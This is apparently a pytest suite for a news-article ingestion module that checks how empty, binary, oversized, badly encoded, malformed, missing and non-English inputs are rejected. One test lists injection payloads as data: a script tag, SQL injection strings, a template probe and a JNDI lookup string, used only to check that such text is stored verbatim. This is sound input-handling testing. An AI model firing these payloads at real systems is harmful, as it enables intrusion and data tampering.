"""Bad and hostile input: every unusable item is one rejection with a specific code; the batch goes on."""

from __future__ import annotations

import io
import json
import time
from pathlib import Path

import pytest

from detente.errors import REJECTION_CODES, InputError
from detente.ingest import ReaderRegistry, decode_bytes, detect_language, make_article, read_inputs
from detente.records import Article, Rejection

ENGLISH = (
    "Finland's President Sauli Niinisto said on Thursday that his country would apply to join NATO "
    "without delay, a decision that Moscow has warned would be met with a response.\n\n"
    '"You caused this. Look in the mirror," Niinisto told reporters in Helsinki when asked about '
    "Russia's reaction to the move.\n"
)


def _read(*paths, **kwargs) -> list[Article | Rejection]:
    return list(read_inputs([str(path) for path in paths], **kwargs))


def _rejected(items, code: str) -> Rejection:
    assert len(items) == 1 and isinstance(items[0], Rejection), items
    assert items[0].code == code, items[0]
    assert items[0].code in REJECTION_CODES
    return items[0]


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("data", [b"", b"   \n\t\n  ", b"source site-59\n\nRead more\n", "\ufeff".encode()])
def test_empty(tmp_path, data):
    rejection = _rejected(_read(_write(tmp_path, "empty.txt", data)), "empty")
    assert "no text" in rejection.message


def test_binary_nul_bytes(tmp_path):
    path = _write(tmp_path, "image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    _rejected(_read(path), "binary")


def test_binary_control_characters(tmp_path):
    data = ENGLISH.encode() + bytes([1, 2, 3, 4, 5, 6, 7, 8, 14, 15, 16, 17]) * 30
    _rejected(_read(_write(tmp_path, "controls.txt", data)), "binary")


def test_huge_sparse_file_is_rejected_without_reading(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as f:
        f.truncate(50 * 2**20)
    started = time.perf_counter()
    rejection = _rejected(_read(path), "too_large")
    assert time.perf_counter() - started < 1.0
    assert "5,000,000" in rejection.message and "52,428,800" in rejection.message


def test_max_bytes_applies_to_stdin_too():
    _rejected(_read("-", stdin=io.BytesIO(b"x" * 101), max_bytes=100), "too_large")


def test_json_lines_row_over_the_limit(tmp_path):
    rows = [json.dumps({"text": ENGLISH}), json.dumps({"text": "x" * 5000}), json.dumps({"text": ENGLISH})]
    items = _read(_write(tmp_path, "rows.jsonl", "\n".join(rows).encode()), max_bytes=2000)
    assert [getattr(item, "code", "article") for item in items] == ["article", "too_large", "article"]
    assert items[1].origin.endswith("rows.jsonl:2")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig"])
def test_utf16_and_utf8_with_bom(tmp_path, encoding):
    text = "Talks in Zürich\n\n" + ENGLISH
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    article = _read(_write(tmp_path, "wide.txt", data))[0]
    assert isinstance(article, Article)
    assert article.title == "Talks in Zürich"
    assert "\ufeff" not in article.text and "Niinisto" in article.text


def test_cp1252(tmp_path):
    text = "Café talks\n\n“We are ready,” the minister said — at 5 €, cheaper than Zürich’s offer.\n"
    article = _read(_write(tmp_path, "legacy.txt", text.encode("cp1252")))[0]
    assert isinstance(article, Article)
    assert article.text == text.strip()


@pytest.mark.parametrize(
    "data",
    [
        b"Talks \x81\x8d\x8f\x90\x9d collapsed on Monday.",  # bytes Windows-1252 does not define
        b"Talks collapsed " + bytes(range(0xA0, 0x100)) * 3,  # dense high bytes: not text in any 8-bit code
        b"The envoy \xc3\x28\xa9\xbb\xbf\xbd\xbe\xb5 left.",  # broken UTF-8, implausible Windows-1252
    ],
)
def test_invalid_utf8(tmp_path, data):
    rejection = _rejected(_read(_write(tmp_path, "broken.txt", data)), "encoding")
    assert "UTF-8" in rejection.message


def test_decode_bytes_directly():
    assert decode_bytes("Kyiv – Kiev".encode("cp1252", "replace")) == "Kyiv – Kiev"
    with pytest.raises(InputError) as caught:
        decode_bytes(b"\xff\xfe\x00")  # a UTF-16 mark followed by an odd byte
    assert caught.value.code == "encoding"


def test_truncated_json_lines_keep_the_good_lines(tmp_path):
    lines = [
        json.dumps({"id": "1", "text": ENGLISH}),
        '{"id": "2", "text": "The foreign minister said',  # truncated
        json.dumps({"id": "3", "text": ENGLISH + " More."}),
        "[1, 2, 3]",
        json.dumps({"id": "5", "title": "No text"}),
        json.dumps({"id": "6", "text": ENGLISH, "published": "14/06/2023"}),
        json.dumps({"id": "7", "text": ENGLISH, "title": ["a", "list"]}),
    ]
    path = _write(tmp_path, "feed.jsonl", "\n".join(lines).encode())
    items = _read(path)
    summary = [(item.origin.rsplit(":", 1)[1], getattr(item, "code", "article")) for item in items]
    assert summary == [
        ("1", "article"),
        ("2", "bad_json"),
        ("3", "article"),
        ("4", "bad_json"),
        ("5", "bad_record"),
        ("6", "bad_record"),
        ("7", "bad_record"),
    ]
    assert "truncated" in items[1].message
    assert "'text'" in items[4].message
    assert "'published'" in items[5].message and "14/06/2023" in items[5].message
    assert "'title'" in items[6].message


def test_malformed_json_document(tmp_path):
    rejection = _rejected(_read(_write(tmp_path, "doc.json", b'{"text": "unterminated')), "bad_json")
    assert rejection.origin.endswith("doc.json")


def test_csv_without_text_column(tmp_path):
    _rejected(_read(_write(tmp_path, "feed.csv", b"id,body\n1,Hello there\n")), "bad_record")


def test_html_without_body(tmp_path):
    page = b"<html><head><title>Menu</title></head><body><nav><a href='/'>Home</a></nav></body></html>"
    _rejected(_read(_write(tmp_path, "nav.html", page)), "no_body")


FOREIGN = {
    "fr": "Le ministre des Affaires étrangères a déclaré mercredi que la France ne reconnaîtrait pas "
    "les résultats de cette élection, et il a demandé aux autorités de libérer les opposants.",
    "es": "El ministro de Asuntos Exteriores dijo el miércoles que el gobierno no reconocerá los "
    "resultados de las elecciones y pidió a las autoridades que liberen a los detenidos.",
    "de": "Der Außenminister sagte am Mittwoch, dass die Regierung die Ergebnisse der Wahl nicht "
    "anerkennen wird, und forderte die Behörden auf, die Gefangenen freizulassen.",
    "zh": "中国外交部发言人周三表示，中方坚决反对美国对台湾的军售，并敦促美方停止干涉中国内政。",
    "ru": "Министр иностранных дел России заявил в среду, что Москва не признает итоги выборов.",
    "pt": "O ministro das Relações Exteriores disse na quarta-feira que o governo não vai reconhecer "
    "os resultados da eleição e que a posição do Brasil é firme.",
    "it": "Il ministro degli Esteri ha detto mercoledì che il governo non riconoscerà i risultati "
    "delle elezioni e che la posizione della Italia è ferma.",
}


@pytest.mark.parametrize(("language", "text"), sorted(FOREIGN.items()))
def test_not_english(tmp_path, language, text):
    rejection = _rejected(_read(_write(tmp_path, "foreign.txt", text.encode())), "not_english")
    assert f"({language})" in rejection.message
    assert detect_language(text) == language


@pytest.mark.parametrize(
    "text",
    [
        "Macron to visit Berlin",
        "Le Drian meets de Mistura in La Paz",
        "Le Drian, de Mistura, La Paz, Lula da Silva, Le Pen, Abu Dhabi, Sheikh Mohammed bin Zayed "
        "al-Nahyan, Recep Tayyip Erdogan and El-Sisi met in Doha on Sunday.",
        "Xi Jinping (习近平) met Vladimir Putin (Владимир Путин) in Moscow on Monday, the Kremlin said, "
        "and the two leaders signed a joint statement on the war in Ukraine.",
        ENGLISH,
    ],
)
def test_english_is_kept(text):
    assert make_article(text).language == "en"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert('pwned')</script>",
        "Robert'); DROP TABLE articles;--",
        "' OR '1'='1'; -- UNION SELECT * FROM users",
        "{{7*7}} ${jndi:ldap://example.invalid/a} %s%s%n",
    ],
)
def test_hostile_text_is_kept_verbatim(tmp_path, hostile):
    text = f"The envoy arrived in Vienna on Monday, officials said.\n\n{hostile}\n\n{ENGLISH}"
    path = _write(tmp_path, "hostile.txt", text.encode())
    record = _write(tmp_path, "hostile.jsonl", json.dumps({"text": text}).encode())
    for article in _read(path, record):
        assert isinstance(article, Article)
        assert hostile in article.text


def test_missing_file(tmp_path):
    rejection = _rejected(_read(tmp_path / "nope.txt"), "not_found")
    assert rejection.origin.endswith("nope.txt")


def test_unreadable_file(tmp_path):
    def read_denied(stream, context):
        raise PermissionError(13, "Permission denied")
        yield  # pragma: no cover

    registry = ReaderRegistry({".txt": read_denied})
    rejection = _rejected(_read(_write(tmp_path, "secret.txt", b"x"), readers=registry), "unreadable")
    assert "Permission denied" in rejection.message


def test_make_article_raises_input_error():
    german = "Der Minister sagte am Mittwoch, dass die Regierung die Wahl nicht anerkennen wird und auch " * 2
    for text, code in [("  \n ", "empty"), ("a\x00b", "binary"), (german, "not_english")]:
        with pytest.raises(InputError) as caught:
            make_article(text)
        assert caught.value.code == code


def test_batch_mixing_good_and_bad_items(tmp_path):
    good = [_write(tmp_path, f"good{n}.txt", f"Story {n}\n\n{ENGLISH}".encode()) for n in range(3)]
    bad = [
        _write(tmp_path, "empty.txt", b""),
        _write(tmp_path, "bin.txt", b"\x00\x01\x02"),
        tmp_path / "missing.txt",
        _write(tmp_path, "french.txt", FOREIGN["fr"].encode()),
        _write(tmp_path, "page.pdf", b"%PDF"),
    ]
    order = [good[0], bad[0], bad[1], good[1], bad[2], bad[3], bad[4], good[2]]
    items = _read(*order)
    articles = [item for item in items if isinstance(item, Article)]
    rejections = [item for item in items if isinstance(item, Rejection)]
    assert [article.title for article in articles] == ["Story 0", "Story 1", "Story 2"]
    assert [r.code for r in rejections] == ["empty", "binary", "not_found", "not_english", "unsupported"]
    assert [item.origin for item in items] == [str(path) for path in order]
